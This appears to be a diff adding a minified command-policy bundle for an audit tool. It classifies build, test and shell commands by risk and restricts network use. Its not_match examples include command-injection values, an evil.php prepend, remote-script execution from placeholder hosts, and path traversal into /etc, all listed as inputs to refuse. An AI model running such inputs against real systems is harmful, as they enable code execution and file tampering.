+on(o,r);try{await e(n.signal),i=!0}finally{s()}}const y$={wholeMs:3e5,scriptsMs:6e4},w$=50,b$=5e3;class _${#e;#t;#s=0;#i=0;#r=er();#n=er();#c=Promise.
+resolve();constructor(e,n={}){this.#e=e,this.#t={...y$,...n}}tick(){const e=this.#c.then(()=>this.#u());return this.#c=e.
+catch(()=>{}),e}async tickScript(){this.#i+=this.#o(),await this.tick();const{scriptsMs:e}=this.#t;return this.#i>e?e/1e3:
+void 0}async all(e,n){const s=await Promise.all(e.map(async r=>(await this.tick(),n(r))));return await this.tick(),s}async#u(){
+this.#o(),er()-this.#n>w$&&(await(0,C$.setImmediate)(),this.#n=er());const{wholeMs:e}=this.#t;if(this.#e?.aborted)throw(0,zr.
+VM)("during the audit");if(this.#s>e)throw E$(e)}#o(){const e=er(),n=Math.min(e-this.#r,b$);return this.#r=e,this.#s+=n,
+n}}function E$(t){return new zr.ue("audit_too_long",`The audit takes more than ${t/1e3} seconds, which is the limit of a\
+ whole audit.`,"Split the change, or reduce the number and length of its commands and npm scripts.")}function er(){return process.
+uptime()*1e3}const k$={path:"node_modules",at:"anywhere"},Kp={dot:!0,nonegate:!0};function qp(t=[],e=[k$]){const n=t.flatMap(
+o=>xe(o)||[]),s=n.length>0?Sa(n,Kp):()=>!1,r=o=>e.some(a=>a.at!=="home"&&(o===a.path||a.at==="anywhere"&&o.endsWith(`/${a.
+path}`))),i=(o,a)=>a(o)||Yo(o).some(a);return{cover:o=>i(o,r)||i(o,s),areBuilt:o=>i(o,s)&&!i(o,r),mayBeIn:o=>n.some(a=>Wp(
+a.split("/"),o.split("/")))}}function Az(t){const{cover:e}=qp([],t);return{cover:()=>!0,areBuilt:n=>!e(n),mayBeIn:()=>!1}}
+function Wp([t,...e],[n,...s]){return t===void 0?!1:n===void 0||t.includes("**")||/[{(]/.test(t)?!0:Sa.isMatch(n,t,Kp)&&
+Wp(e,s)}function Sz(t,e,n){const s=a=>t.stat(a)===void 0&&(n.cover(a)||n.mayBeIn(a))&&foldersAbove(a).every(c=>(t.stat(c)?.
+kind??"directory")==="directory"),r=new Map,i=a=>(r.has(a)||r.set(a,e.stat(a)),r.get(a)),o=a=>{if(!s(a))return t.stat(a);
+const c=i(a),u=n.cover(a)||c?.kind==="directory";if(!(!c||!u))return{...c,tracked:!1,...n.areBuilt(a)&&{built:!0}}};return{
+label:t.label,...t.attributes&&{attributes:t.attributes},stat:o,readlink:a=>(s(a)?e:t).readlink(a),read:(a,c)=>(s(a)?e:t).
+read(a,c),list:a=>{const c=e.list(a).flatMap(({path:u})=>(s(u)?o(u):void 0)??[]);return[...t.list(a),...c].sort(byEntryPath)},
+files:()=>t.files()}}const v$="warnings|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|unsafe~|nonstandard_\
+style",D$={flags:{text:"exact ignored include-ignored nocapture quiet,q show-output skip= test-threads=","only-prints":"\
+list"}},Vp={operands:"text*",behind:D$,flags:{"skips-tests":"no-run"}},x$={risk:"write",alone:"only-prints",flags:{text:`\
+
+      color= frozen locked offline quiet,q verbose,v all all-features all-targets bench? benches bin? bins doc
+      example? examples exclude= F,features= jobs,j= keep-going lib message-format= no-default-features no-deps
+      no-fail-fast package,p? profile= release,r target? test? tests workspace
+    `,path:"C= manifest-path=",output:"target-dir="},refused:{"only-prints":"tree metadata locate-project pkgid version \
+help","uses-network":"install uninstall add remove update fetch vendor init new publish audit outdated","writes-files":"\
+package clean fix"},subcommands:{"test,t,bench":Vp,"build,b,check,c,run,r":{operands:"text*"},"doc,d":{operands:"text*",
+flags:{text:"document-private-items","outside-code":"open"}},clippy:{operands:"text*",flags:{"tool-writes":"fix allow-di\
+rty allow-staged allow-no-vcs"},behind:{flags:{text:"no-deps",choice:["D","W","A","F","deny","warn","allow","forbid"].map(
+t=>`${t}=${v$}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{
+flags:{text:"check edition= quiet,q verbose,v",config:"config-path="}}},"nextest run":{...Vp,flags:{text:"E,filterset= r\
+etries= test-threads= partition=","skips-tests":"no-run no-tests="}}},directory_flags:["-C"],settings:[".cargo/config.to\
+ml",".cargo/config","rust-toolchain.toml","rust-toolchain"],build_files:["Cargo.toml","build.rs","clippy.toml","rustfmt.\
+toml"],dependencies:[{path:"target",at:"anywhere"},{path:"vendor",at:"anywhere"},{path:".cargo/bin",at:"home"},{path:".c\
+argo/git",at:"home"},{path:".cargo/registry",at:"home"},{path:".rustup",at:"home",variable:"RUSTUP_HOME"}],environment:{
+CARGO_NET_OFFLINE:"true",CARGO_TERM_COLOR:"never",RUSTUP_AUTO_INSTALL:"0"},match:["cargo test --workspace --all-features\
+ name -- --nocapture --test-threads=1","cargo clippy --all-targets -- -D warnings","cargo fmt --all -- --check","cargo r\
+un -- --version"],not_match:["cargo --config build.rustc-wrapper=./x test","cargo +nightly test","cargo clippy -- -Clink\
+er=./x","cargo fmt -- --emit files","cargo test -- --logfile /tmp/x"]},O$={risk:"write",alone:"only-prints",flags:{text:"\
+a asan cover covermode= coverpkg= json mod= msan p= race tags= trimpath v work x",path:"C=",config:"modfile= overlay=",output:"\
+o=","outside-code":"exec=","only-prints":"n h help"},refused:{"only-prints":"list version doc help","uses-network":"get \
+install bug","outside-code":"env generate tool work telemetry","writes-files":"clean fix"},subcommands:{test:{operands:"\
+import*",flags:{text:"args+ bench= benchmem benchtime= count= cpu= failfast parallel= run= short shuffle= skip= timeout=\
+ vet=",output:"blockprofile= coverprofile= cpuprofile= memprofile= mutexprofile= outputdir= trace=","never-ends":"fuzz=",
+"only-prints":"list=","skips-tests":"c"}},build:{operands:"import*"},vet:{operands:"import*",flags:{"tool-writes":"fix"}},
+run:{starts:"package",alone:"only-prints"},fmt:{operands:"import*",unless:{"tool-writes":"n"}},mod:{alone:"only-prints",
+refused:{"only-prints":"graph why help","uses-network":"download edit init vendor"}},"mod verify":{},"mod tidy":{unless:{
+"tool-writes":"diff"},flags:{text:"diff"}}},directory_flags:["-C"],build_files:["go.mod","go.work","go.env"],dependencies:[
+{path:"vendor",at:"anywhere"},{path:"go/pkg/mod",at:"home",variable:"GOMODCACHE"}],environment:{GOPROXY:"off",GOTOOLCHAIN:"\
+local",GOTELEMETRY:"off",GOENV:"off",GOVCS:"*:off"},match:['go test -race -run "TestA|TestB" ./pkg/...',"go test ./... -\
+args -x","go mod verify"],not_match:["go test --exec ./x ./...","go run example.com/x@latest","go test -ldflags=-extldfl\
+ags=-fuse-ld=x ./..."]},A$={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"script-tool-or-file",alone:"only-prints",
+flags:{text:`
+      bail bun,b concurrency= conditions= coverage coverage-reporter= filter,F= if-present no-install
+      only-failures randomize reporter= rerun-each= retry= seed= silent smol test-name-pattern,t= timeout=
+      todo workspaces sequential parallel
+    `,path:"cwd=",config:"config,c= tsconfig-override=",code:"jsx-import-source=",preload:"preload,r= require= import=",
+output:"coverage-dir= reporter-outfile=",weakens:"env-file= unhandled-rejections=","outside-code":"eval,e+ print,p+ insp\
+ect? define,d= drop= loader,l= registry= shell=","never-ends":"watch hot","uses-network":"install=","reads-stdin":"inter\
+active","tool-writes":"update-snapshots","skips-tests":"only pass-with-no-tests","only-prints":"revision"},refused:{"use\
+s-network":`
+      x bunx install i ci add a remove rm update link unlink patch patch-commit upgrade feedback publish
+      audit outdated info dev
+    `,"outside-code":"exec repl create c init","writes-files":"build pm","only-prints":"why discord completions"},subcommands:{
+test:{operands:"tests*"},run:{starts:"script-tool-or-file",alone:"only-prints"}},directory_flags:["--cwd"],selecting_flags:[
+"--filter","-F","--workspaces"],settings:["bunfig.toml",".bunfig.toml"],dependencies:[{path:"node_modules",at:"anywhere"},
+{path:".bun/install/cache",at:"home",variable:"BUN_INSTALL_CACHE_DIR"}],environment:{BUN_CONFIG_NO_INSTALL:"1",DO_NOT_TRACK:"\
+1",BUN_RUNTIME_TRANSPILER_CACHE_PATH:"0"},match:["bun test src/a.test.ts --bail","bun lint","bun run --filter a test","b\
+un scripts/check.ts"],not_match:["bun --eval 1","bun test --preload ../x.ts","bun run ../x.ts","bun ci/e.sh","bun ci/x.w\
+asm"]},S$={extensions:"js mjs cjs jsx ts mts cts tsx",starts:"file",alone:"reads-stdin",flags:{text:`
+      allow-all,A allow-read,R allow-write,W allow-net,N allow-env,E allow-sys,S allow-run allow-ffi
+      deny-read deny-write deny-net deny-env deny-sys deny-run deny-ffi no-prompt cached-only check
+      no-check no-remote no-npm no-lock frozen quiet,q seed= ignore= parallel fail-fast shuffle filter=
+      doc trace-leaks reporter= rules-tags= rules-include= rules-exclude= permit-no-files
+    `,config:"config,c= import-map= lock?",weakens:"env-file",preload:"preload= require= import=",node:"v8-flags=",output:"\
+coverage junit-path= output,o=","outside-code":"inspect inspect-brk","never-ends":"watch?","uses-network":"reload,r","sk\
+ips-tests":"no-run","tool-writes":"fix","only-prints":"help,h?"},refused:{"outside-code":"eval","reads-stdin":"repl","ne\
+ver-ends":"serve jupyter lsp","uses-network":`
+      install i add remove uninstall cache upgrade outdated update approve-scripts publish deploy sandbox
+      x create init
+    `,"writes-files":"compile clean bundle","only-prints":"info doc types completions coverage help"},subcommands:{"test\
+,bench":{operands:"tests*"},run:{starts:"file",alone:"only-prints"},check:{},lint:{flags:{"only-prints":"rules"}},fmt:{unless:{
+"tool-writes":"check"}},task:{operands:"text*",alone:"only-prints",refused:{"never-ends":"dev serve server start watch"},
+flags:{"outside-code":"eval",path:"cwd="}}},build_files:["deno.json","deno.jsonc"],dependencies:[{path:"node_modules",at:"\
+anywhere"},{path:"vendor",at:"root"},{path:".cache/deno",at:"home",variable:"DENO_DIR"}],environment:{DENO_NO_UPDATE_CHECK:"\
+1",DENO_NO_PROMPT:"1",DENO_NO_PACKAGE_JSON:"0"},match:["deno test --allow-read=/tmp --allow-write=/tmp","deno fmt --chec\
+k","deno task test"],not_match:["deno test --allow-ffi=/tmp/x.so tests","deno run npm:cowsay","deno run x.sh","deno x.wa\
+sm"]},T$={risk:"write",operands:"text*",completes:!0,flags:{text:`
+      B,always-make b debug? d j,jobs? k,keep-going l,load-average,max-load? m output-sync,O?
+      no-print-directory,w print-directory no-keep-going,stop,S R,no-builtin-variables r,no-builtin-rules
+      s,silent,quiet no-silent shuffle? trace warn-undefined-variables
+    `,path:"C,directory= I,include-dir=",config:"f,file,makefile=","outside-code":"E,eval= e,environment-overrides",weakens:"\
+i,ignore-errors","skips-tests":"o,old-file,assume-old= W,what-if,new-file,assume-new= t,touch","only-prints":"n,just-pri\
+nt,dry-run,recon p,print-data-base q,question h,help v,version"},refused:{"uses-network":"install install-~ bootstrap pu\
+blish publish-~ deploy deploy-~ release upload","writes-files":"uninstall","never-ends":"dev serve server start watch"},
+variables:["V","VERBOSE"],directory_flags:["-C","--directory"],build_files:["Makefile","makefile","GNUmakefile","*.mk","\
+CMakeLists.txt","configure"],environment:{MAKEFLAGS:"",GNUMAKEFLAGS:"",MAKEFILES:""},match:["make","make -C packages/a t\
+est","make -j4 check V=1","make -f build/Makefile test"],not_match:["make test SHELL:=./x",'make test ARGS="; id"',"make\
+ -I ../x test","make test CC=-x"]},I$={risk:"safe",starts:"script-or-tool",alone:"only-prints",flags:{text:`
+      aggregate-output color,no-color filter,F= filter-prod= if-present include-workspace-root loglevel=
+      no-bail no-sort bail parallel recursive,r reporter= reporter-hide-prefix sequential silent,s sort
+      stream w workspace-concurrency= workspace-root
+    `,path:"dir,C= state-dir=",weakens:"env-file=","skips-tests":"dry-run","outside-code":"config~ node-options= script-\
+shell= shell-emulator shell-mode,c global,g modules-dir= virtual-store-dir= registry= userconfig= prefix=","only-prints":"\
+help,h version,v"},refused:{"uses-network":`
+      dlx pnpx add install i ci update up upgrade remove rm uninstall un link ln unlink import rebuild rb
+      prune dedupe fetch install-test it approve-builds ignored-builds patch patch-commit patch-remove
+      deploy publish login logout adduser dist-tag owner unpublish deprecate team token access audit
+      outdated search view info show ping whoami docs repo bugs
+    `,"outside-code":"create init config c set get env setup self-update store server cache restart","writes-files":"pac\
+k version","only-prints":"list ls la ll why root bin licenses help prefix completion"},subcommands:{"test,t,tst,start,st\
+op":{starts:"own-script"},"run,run-script":{starts:"script",alone:"only-prints"},exec:{starts:"tool"}},directory_flags:[
+"-C","--dir"],selecting_flags:"-r --recursive -F --filter --filter-prod -w --workspace-root".split(" "),settings:["pnpm-\
+workspace.yaml",".pnpmfile.cjs",".pnpmfile.mjs"],dependencies:[{path:"node_modules",at:"anywhere"}],environment:{npm_config_manage_package_manager_versions:"\
+false",npm_config_package_manager_strict:"false",npm_config_verify_deps_before_run:"false",pnpm_config_verify_deps_before_run:"\
+false",COREPACK_ENABLE_NETWORK:"0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["pnpm lint --max-\
+warnings 0","pnpm --filter a... test","pnpm vitest run --coverage"],not_match:['pnpm exec sh -c "id"',"pnpm --config.scr\
+ipt-shell=./x test","pnpm exec tsx -e 1"]},$$={starts:"script-or-tool",alone:"uses-network",flags:{text:`
+      frozen-lockfile json mutex= no-progress non-interactive offline silent,s verbose top-level,T
+      binaries-only,B include= exclude= from= jobs,j= interlaced,i parallel,p topological,t topological-dev
+      recursive,R worktree,W since? all,A no-private
+    `,path:"cwd=","outside-code":"use-yarnrc= modules-folder= registry= scripts-prepend-node-path? prefix= require= insp\
+ect? inspect-brk?","only-prints":"help,h version,v"},refused:{"uses-network":`
+      dlx add install remove up upgrade upgrade-interactive link unlink import dedupe rebuild unplug patch
+      patch-commit global autoclean stage policies set npm publish login logout owner tag team audit
+      outdated info search
+    `,"outside-code":"create init node config plugin cache unset generate-lock-entry","writes-files":"pack version","onl\
+y-prints":"list why licenses bin explain help constraints versions check search-bin"},subcommands:{test:{starts:"own-scr\
+ipt"},run:{starts:"script-or-tool",alone:"only-prints"},workspace:{starts:"script-or-tool",skips:1,any_package:!0,refused:{
+"outside-code":"add remove install up upgrade dlx exec node npm publish pack link"}},"workspace run":{starts:"script-or-\
+tool",any_package:!0,alone:"only-prints"},workspaces:{alone:"only-prints"},"workspaces run":{starts:"script-or-tool",any_package:!0},
+"workspaces foreach":{starts:"script-or-tool",any_package:!0,refused:{"outside-code":"exec"}},"workspaces foreach run":{
+starts:"script-or-tool",any_package:!0},exec:{starts:"tool"}},directory_flags:["--cwd"],settings:".yarnrc.yml .yarnrc .e\
+nv.yarn .pnp.cjs .pnp.loader.mjs .yarn/plugins .yarn/releases".split(" "),dependencies:[{path:"node_modules",at:"anywher\
+e"},{path:".pnp.cjs",at:"root"},{path:".pnp.loader.mjs",at:"root"},{path:".yarn",at:"root"},{path:".yarn/berry/cache",at:"\
+home"}],environment:{YARN_ENABLE_NETWORK:"0",YARN_ENABLE_TELEMETRY:"0",YARN_ENABLE_GLOBAL_CACHE:"1",COREPACK_ENABLE_NETWORK:"\
+0",COREPACK_ENABLE_STRICT:"0",COREPACK_ENABLE_PROJECT_SPEC:"0"},match:["yarn lint --max-warnings 0","yarn workspace a ru\
+n test","yarn jest --ci"],not_match:["yarn","yarn exec bash","yarn --cwd ../x test","yarn --use-yarnrc x test"]},Yp=[{path:"\
+vendor",at:"anywhere"}],R$={starts:"file",extensions:"php",alone:"reads-stdin",flags:{choice:"d=display_errors=~|display\
+_startup_errors=~|error_reporting=~|memory_limit=~|max_execution_time=~|date.timezone=~|assert.exception=1|zend.assertio\
+ns=1|xdebug.mode=off|xdebug.mode=coverage|pcov.enabled=1","checks-syntax-only":"l,syntax-check","outside-code":"r,run= c\
+,php-ini=","reads-stdin":"a,interactive","only-prints":"i,info m,modules ini s,syntax-highlight w,strip"},dependency_tools:[
+"phpunit"],dependencies:Yp,match:["php scripts/check.php --strict","php -d memory_limit=1G -ddisplay_errors=1 scripts/ch\
+eck.php","php bin/console lint:yaml config","php -l src/a.php","php vendor/bin/phpunit --testdox tests","php ./vendor/ph\
+punit/phpunit/phpunit -c phpunit.xml"],not_match:["php",'php -r "echo 1;"',"php -d auto_prepend_file=evil.php x.php","ph\
+p -dauto_prepend_file=evil.php x.php","php -c evil.ini x.php","php -S localhost:80","php -f x.php","php scripts/x.sh","p\
+hp tool.phar","php https://x.test/y.php","php vendor/bin/phpunit --bootstrap ../x.php","php vendor/bin/phpunit --unknown"]},
+N$={operands:"tests*",flags:{text:`
+      testsuite= exclude-testsuite= group= exclude-group= filter= exclude-filter= test-suffix=
+      process-isolation stop-on-defect stop-on-error stop-on-failure stop-on-warning fail-on-warning
+      fail-on-risky fail-on-deprecation fail-on-notice fail-on-skipped fail-on-incomplete
+      fail-on-empty-test-suite fail-on-all-issues cache-result order-by= random-order random-order-seed=
+      colors?= columns= no-progress no-results no-output no-coverage display-deprecations display-warnings
+      debug teamcity testdox verbose stderr coverage-text?= coverage-filter=
+    `,path:"cache-directory= include-path=",config:"c,configuration= use-baseline=",code:"bootstrap=",output:"log-junit=\
+ log-teamcity= testdox-html= testdox-text= coverage-clover= coverage-cobertura= coverage-html= coverage-php= coverage-xm\
+l=","outside-code":"loader=","tool-writes":"generate-baseline= generate-configuration migrate-configuration","skips-test\
+s":"do-not-fail-on-empty-test-suite do-not-fail-on-warning do-not-fail-on-risky ignore-baseline","only-prints":"list-sui\
+tes list-groups list-tests list-tests-xml= atleast-version= check-version"},settings:["vendor"],build_files:["phpunit.xm\
+l","phpunit.xml.dist","phpunit.dist.xml","composer.json"],dependencies:Yp,match:["phpunit","phpunit --colors=never --fil\
+ter testA tests/ATest.php"],not_match:["phpunit --bootstrap=../x.php","phpunit -c /etc/x.xml","phpunit --extension X"]},
+F$={alone:"only-prints",flags:{text:`
+      check color= diff exclude= exit-non-zero-on-fix exit-non-zero-on-format extend-exclude= extend-ignore=
+      extend-select= fixable= force-exclude ignore= ignore-noqa isolated line-length= no-cache,n
+      output-format= per-file-ignores= preview quiet,q respect-gitignore select= silent,s statistics
+      show-fixes target-version= unfixable= unsafe-fixes verbose,v
+    `,path:"cache-dir=",config:"config=",output:"output-file,o=","tool-writes":"fix fix-only add-noqa? add-ignore?","nev\
+er-ends":"watch,w","reads-stdin":"stdin-filename=",weakens:"exit-zero,e","only-prints":"help,h version,V show-files show\
+-settings"},refused:{"only-prints":"rule config linter version help analyze","writes-files":"clean","never-ends":"server"},
+subcommands:{check:{},format:{unless:{"tool-writes":"check diff"}}},build_files:["ruff.toml",".ruff.toml","pyproject.tom\
+l"],dependencies:qs,environment:{RUFF_NO_CACHE:"true"},match:["ruff check","ruff check src --select E","ruff format --ch\
+eck","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonsense"]},L$={completes:!0,
+flags:{text:`
+      allow-redefinition always-false= always-true= cache-fine-grained check-untyped-defs color-output
+      disable-error-code= disallow-any-explicit disallow-any-expr disallow-any-generics
+      disallow-any-unimported disallow-incomplete-defs disallow-subclassing-any disallow-untyped-calls
+      disallow-untyped-decorators disallow-untyped-defs enable-error-code= error-summary exclude=
+      explicit-package-bases extra-checks follow-imports= ignore-missing-imports implicit-optional
+      implicit-reexport incremental,i local-partial-types module,m= namespace-packages output,O= package,p=
+      platform= pretty python-version= scripts-are-modules show-column-numbers show-error-codes
+      show-error-context show-traceback,tb sqlite-cache strict strict-equality strict-optional verbose,v
+      warn-incomplete-stub warn-no-return warn-redundant-casts warn-return-any warn-unreachable
+      warn-unused-configs warn-unused-ignores
+    `,path:"cache-dir= custom-typing-module= custom-typeshed-dir=",config:"config-file=",output:"cobertura-xml-report= h\
+tml-report= linecount-report= txt-report= xml-report= junit-xml=","outside-code":"command,c=","uses-network":"interactiv\
+e","reads-stdin":"pdb","only-prints":"find-occurrences= stats"},build_files:["mypy.ini",".mypy.ini","pyproject.toml","se\
+tup.cfg"],dependencies:qs,environment:{...ai,MYPY_FORCE_COLOR:"0"},match:["mypy src","mypy --strict src","mypy -p packag\
+e --no-incremental","mypy"],not_match:['mypy -c "1"',"mypy --python-executable=./x src","mypy --config-file=/etc/x src"]},
+P$={extensions:"py",alone:"only-prints",flags:{text:`
+      active all-extras all-groups all-packages check exact extra= frozen group= isolated locked no-cache,n
+      no-config no-default-groups no-dev no-editable no-env-file no-project no-sync offline only-dev
+      only-group= package= prerelease= quiet,q resolution= verbose,v dev
+    `,path:"directory= project= cache-dir=",config:"config-file=",weakens:"env-file=","outside-code":"python,p=",module:"\
+module,m+","uses-network":"with,w=","only-prints":"help,h version,V show-settings"},refused:{"uses-network":`
+      sync add remove pip venv init tool x export python self cache auth workspace publish
+    `,"writes-files":"build version format","only-prints":"tree help generate-shell-completion"},subcommands:{run:{starts:"\
+program",alone:"only-prints"},lock:{unless:{"tool-writes":"check locked dry-run"}}},started_programs:["pytest","ruff","m\
+ypy","python","python3"],directory_flags:["--directory"],build_files:["pyproject.toml","uv.toml"],dependencies:[...qs,{path:"\
+.cache/uv",at:"home",variable:"UV_CACHE_DIR"},{path:".local/share/uv/python",at:"home"},{path:".local/share/uv/tools",at:"\
+home"}],environment:{...ai,UV_OFFLINE:"1",UV_NO_PROGRESS:"1",UV_PYTHON_DOWNLOADS:"never"},match:["uv run scripts/check.p\
+y","uv run --frozen python -m pytest","uv lock --check"],not_match:["uv run sh -c id","uv run pytest -o addopts=x","uv r\
+un https://x.test/y.py","uv run -","uv run ci/e.sh","uv run ci/e.PY.sh","uv run ./e.zip"]},Xp={warnings:["archive_extrac\
+tion_overwrite"]},Qp={warnings:["archive_creation_overwrite"]},j$={curated:{tar:{risk:"write",forms:{"-tf {archive}":{risk:"\
+safe"},"-xf {archive} -C {destination}":Xp,"-czf {archive} {source...}":Qp},match:["tar -tf a.tar","tar -xf a.tar -C out",
+"tar -czf a.tgz src docs"],not_match:["tar -czf a.tgz .","tar -xf a.tar -C /usr/local/","tar -tf host:a.tar"]},unzip:{risk:"\
+write",forms:{"-l {archive}":{risk:"safe"},"{archive} -d {destination}":Xp},match:["unzip -l a.zip","unzip a.zip -d out"],
+not_match:["unzip a.zip","unzip -o a.zip -d out","unzip a.zip -d out/../../../etc"]},zip:{risk:"write",forms:{"-r {archi\
+ve} {source...}":Qp},match:["zip -r a.zip src"],not_match:["zip a.zip src","zip -r a.zip","zip -r a.zip src/.."]}}},em={
+dangerous_targets:["/"],operands:"text path..."},M$={curated:{cd:{operands:"path?",default_operand:"~",match:["cd src"],
+not_match:["cd a b"]},chmod:{...em,risk:"write",match:["chmod u+x a"],not_match:["chmod -R 644 a"]},chown:{...em,risk:"d\
+angerous",match:["chown me a"],not_match:["chown -R me a"]},cp:{risk:"write",flags:{text:"R n p"},operands:"path path...",
+match:["cp -R a b"],not_match:["cp a","cp -f a b"]},file:{flags:{text:"b"},operands:"input...",match:["file -b a"],not_match:[
+"file","file -"]},mkdir:{risk:"write",flags:{text:"p"},operands:"path...",match:["mkdir -p a"],not_match:["mkdir"]},mv:{
+risk:"write",flags:{text:"n"},operands:"path path...",match:["mv -n a b"],not_match:["mv a"]},pwd:{operands:"",match:["p\
+wd"],not_match:["pwd -P","pwd x"]},rm:{risk:"dangerous",flags:{text:"f i r"},flag_warnings:{"-r":"recursive_deletion"},operands:"\
+path...",match:["rm a","rm -rf build","rm -- -x"],not_match:["rm","rm --recursive a","rm -d a"]},stat:{flags:{text:"L x \
+f="},operands:"path...",match:["stat -L a"],not_match:["stat -c x a"]},touch:{risk:"write",operands:"path...",match:["to\
+uch a"],not_match:["touch"]}},both:{cat:{flags:{text:"A E T b e n s t v number number-nonblank show-all squeeze-blank"},
+operands:"input...",curated:{flags:{}},match:["cat notes.md","cat a b"],not_match:["cat","cat --force a","cat -","cat ht\
+tps://host.test/x"]},find:{flags:{text:"-print -type= -print0 -regextype= -size= -mtime= -mmin= -ctime= -cmin= -atime= -\
+amin= -perm= -user= -group= -links= -empty -prune -not -and -or a o -printf=",pattern:"-name= -path= -iname= -ipath= -wh\
+olename= -regex= -iregex=",count:"-maxdepth= -mindepth=",path:"-newer="},leading_flags:["-H","-L","-P"],default_operand:"\
+.",curated:{flags:{text:"-print -type=",pattern:"-name= -path=",count:"-maxdepth= -mindepth="}},match:["find . -name x",
+"find -L src -type f -maxdepth 2"],not_match:["find . -exec rm x","find . -delete","find . -name","find -name x ."]},ls:{
+flags:{text:"1 A B C F G H L N Q R S U X a b c d f g h i k l m n o p q r s t u v x all almost-all author escape ignore-b\
+ackups directory classify file-type full-time group-directories-first no-group human-readable si dereference inode kibib\
+ytes literal numeric-uid-gid quote-name reverse recursive size",pattern:"I= ignore= hide=",count:"w=",choice:"color?=aut\
+o|always|never indicator-style?=none|slash|file-type|classify sort?=none|size|time|version|extension|name|width time?=at\
+ime|access|use|ctime|status|mtime|modification|birth|creation time-style?=full-iso|long-iso|iso|locale format?=across|co\
+mmas|horizontal|long|single-column|verbose|vertical"},default_operand:".",match:["ls","ls -ltrh src","ls --color=auto","\
+ls --sort=time src","ls --all"],not_match:["ls --color src","ls https://host.test","ls --sort=x","ls --force"]}}},_i={text:"\
+w cached staged check exit-code name-only name-status numstat quiet shortstat stat no-color",count:"U= unified=",choice:"\
+color?=auto|always|never"},G$={..._i,text:`${_i.text} p S= G= all decorate first-parent follow graph merges no-merges on\
+eline patch reverse
+    after= author= before= committer= date= format= grep= pretty= since= until=`,count:`${_i.count} n= max-count= skip=`},
+H$={both:{git:{subcommands:{status:{flags:{text:"b s branch long porcelain short"}},diff:{flags:_i},log:{flags:G$}},curated:{
+risk:"dangerous",forms:{"status --short":{risk:"safe"},"branch --show-current":{risk:"safe"},"log --oneline -n {count:1-\
+100}":{risk:"safe"},"diff --stat":{risk:"safe"},"diff --name-only":{risk:"safe"}}},match:["git status --short","git log \
+--oneline -n 100"],not_match:["git","git push","git -c core.pager=sh log","git diff --ext-diff"]}}},tm={network_touching:!0,
+forms:{"{domain}":{}}},z$={curated:{curl:{network_touching:!0,forms:{"-I {url}":{}},match:["curl -I https://host.test"],
+not_match:["curl -I http://localhost","curl -I http://a:b@host.test"]},dig:{...tm,match:["dig host.test"],not_match:["di\
+g","dig @192.0.2.1 host.test"]},nslookup:{...tm,match:["nslookup host.test"],not_match:["nslookup https://host.test"]},ping:{
+network_touching:!0,forms:{"-c {count:1-10} {host}":{}},match:["ping -c 1 host.test","ping -c 3 2001:db8::5"],not_match:[
+"ping -c 11 host.test","ping -c 1 127.0.0.1","ping -c 1 169.254.169.254"]}}},nm={operands:"package...",network_touching:!0,
+warnings:["writes_files"]},U$={workspace:{"apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},
+install:nm},match:["apt-get update","apt-get install -y jq"],not_match:["apt-get install ./x.deb","apt-get install -o x=\
+y jq","apt-get remove jq"]}}},sm={flags:{text:"q quiet v verbose U upgrade user no-deps pre force-reinstall no-cache-dir\
+ disable-pip-version-check outdated y format="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:nm}},
+J$={workspace:{pip:{...sm,match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip instal\
+l git+https://x/y","pip"]},pip3:{...sm,match:["pip3 list"],not_match:["pip3 install ../x"]},python3:{forms:{"--version":{},
+"-V":{},"--help":{},"{script} {argument*}":{risk:"write"}},match:["python3 tool.py --verbose","python3 --version"],not_match:[
+'python3 -c "print(1)"',"python3 -m http.server","python3","python3 -"]}}},Z$={curated:{clear:{operands:"",match:["clear"],
+not_match:["clear -x"]},lsof:{flags:{text:"a n P c= p="},match:["lsof -nP"],not_match:["lsof -t x"]},man:{operands:"page\
+ page?",match:["man 1 ls"],not_match:["man -P sh ls","man ./x"]},open:{flags:{text:"R"},operands:"path...",forbidden_prefixes:[
+"http:","https:","ftp:","mailto:"],platforms:["darwin"],match:["open notes.md","open -R notes.md"],not_match:["open http\
+s://host.test","open MAILTO:a@b","open -a Terminal x"]},pgrep:{flags:{text:"f l u="},operands:"pattern",match:["pgrep -f\
+l a"],not_match:["pgrep"]},ps:{flags:{text:"A e f p= u="},operands:"",match:["ps -ef"],not_match:["ps eww"]},sudo:{risk:"\
+dangerous",maturity:"blocked",operands:"text...",match:["sudo ls"],not_match:["sudo -u root ls"]},which:{flags:{text:"a"},
+operands:"text...",match:["which -a node"],not_match:["which"]}},workspace:{free:{flags:{text:"b g h k m t w s= human to\
+tal wide seconds=",count:"c="},operands:"",match:["free -m"],not_match:["free --force"]},id:{flags:{text:"G g n r u"},operands:"\
+text?",match:["id -un"],not_match:["id --force"]}},both:{df:{flags:{text:"a h i k l m P T human-readable inodes local pr\
+int-type total"},curated:{flags:{text:"h"}},match:["df -h"],not_match:["df --output=x","df --force"]},du:{flags:{text:"a\
+ c h k s x b m t= B= all bytes human-readable summarize total threshold= block-size=",count:"d= max-depth=",pattern:"exc\
+lude="},default_operand:".",curated:{flags:{text:"a c h k s x",count:"d="}},match:["du -sh src","du -d 1"],not_match:["d\
+u --files0-from=x"]},uname:{flags:{text:"a m n r s v"},operands:"",match:["uname -a"],not_match:["uname x"]},whoami:{operands:"",
+match:["whoami"],not_match:["whoami x","whoami --force"]}}},rm={flags:{count:"n= c=",text:"#"},operands:"input...",curated:{
+flags:{count:"n= c="}}},K$={workspace:{awk:{flags:{text:"F= field-separator= v= assign="},operands:"awk path*",match:["a\
+wk '{print $1}' notes.md","awk -F / '{print $2}' notes.md"],not_match:[`awk 'BEGIN{system("id")}'`,"awk -f x y",`awk '{p\
+rint > "/etc/x"}' y`]},cut:{flags:{text:"d= f= b= c= s delimiter= fields= bytes= characters= complement only-delimited o\
+utput-delimiter="},match:["cut -d, -f1 data.csv"],not_match:["cut --force x"]},diff:{flags:{text:"B N a b i q r s u w y \
+brief recursive unified side-by-side ignore-all-space label=",pattern:"I= x= ignore-matching-lines= exclude=",count:"U= \
